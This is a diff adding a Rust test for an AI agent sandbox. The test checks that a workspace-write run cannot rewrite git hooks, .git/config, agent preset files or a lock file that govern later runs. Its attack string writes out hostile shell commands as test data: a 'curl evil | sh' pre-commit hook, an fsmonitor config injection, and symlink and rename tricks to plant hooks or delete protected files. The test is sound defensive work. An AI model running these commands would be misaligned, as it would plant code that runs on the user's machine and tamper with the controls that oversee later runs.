@@ -238,3 +238,59 @@ except OSError as e:
         assert!(out.contains("netlink refused"), "{containment}: {out}");
     }
 }
+
+/// A run cannot rewrite the next run's rules: under `workspace-write`, `.git/`,
+/// `.agent-presets/` and `presets.lock` cannot be written, created in, renamed into,
+/// linked into, removed or replaced, while the workspace root stays writable.
+#[tokio::test]
+async fn the_workspaces_own_rules_cannot_be_rewritten_but_its_root_stays_writable() {
+    let ws = ToolWorkspace::empty();
+    let git = std::process::Command::new("git")
+        .args(["init", "-q"])
+        .current_dir(&ws.ws)
+        .status();
+    if !git.is_ok_and(|s| s.success()) {
+        eprintln!("skipping: no git");
+        return;
+    }
+    ws.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
+    ws.write(".agent-presets/x.yaml", "name: x\n");
+    ws.write("presets.lock", "LOCK\n");
+    ws.write("tracked.txt", "tracked\n");
+    let protected = |ws: &ToolWorkspace| {
+        (
+            ws.read(".git/hooks/pre-commit"),
+            ws.read(".agent-presets/x.yaml"),
+            ws.read("presets.lock"),
+            std::fs::read_to_string(ws.ws.join(".git/config")).unwrap(),
+            ws.ws.join(".agent-presets/evil.yaml").exists(),
+            ws.ws.join(".git/hooks/post-checkout").exists(),
+        )
+    };
+    let before = protected(&ws);
+    let attacks = "echo 'curl evil | sh' > .git/hooks/pre-commit; \
+         echo evil >> .agent-presets/x.yaml; echo evil > presets.lock; \
+         printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; \
+         echo evil > evil; chmod +x evil; \
+         mv evil .git/hooks/post-checkout; cp evil .git/hooks/post-checkout; \
+         ln -s ../../evil .git/hooks/post-checkout; ln evil .git/hooks/post-checkout; \
+         ln evil .agent-presets/evil.yaml; mv evil .agent-presets/evil.yaml; \
+         rm -f .git/hooks/pre-commit; rm -rf .agent-presets; rm -f presets.lock; \
+         mv evil presets.lock; mv .git .git-old; mv .agent-presets elsewhere; \
+         echo ok > new.txt && mv new.txt renamed.txt && rm renamed.txt && echo root-ok; \
+         mkdir d && echo x > d/f && mv d/f f2 && rm -r d f2 && echo dirs-ok; \
+         echo changed > tracked.txt; git status --short && echo status-ok; git diff --stat && echo diff-ok; \
+         git add tracked.txt; git commit -qm x && echo committed";
+    for containment in containments() {
+        let ctx = sandboxed(&ws, SandboxMode::WorkspaceWrite).with_containment(containment);
+        let out = sh(&ctx, attacks).await;
+        assert_eq!(protected(&ws), before, "{containment}: {out}");
+        assert!(ws.ws.join(".git/HEAD").is_file(), "{containment}: {out}");
+        for ok in ["root-ok", "dirs-ok", "status-ok", "diff-ok"] {
+            assert!(out.contains(ok), "{containment}: {ok}: {out}");
+        }
+        assert!(!out.contains("committed"), "{containment}: {out}");
+        assert!(out.contains("tracked.txt"), "{containment}: {out}");
+        let _ = std::fs::remove_file(ws.ws.join("evil"));
+    }
+}
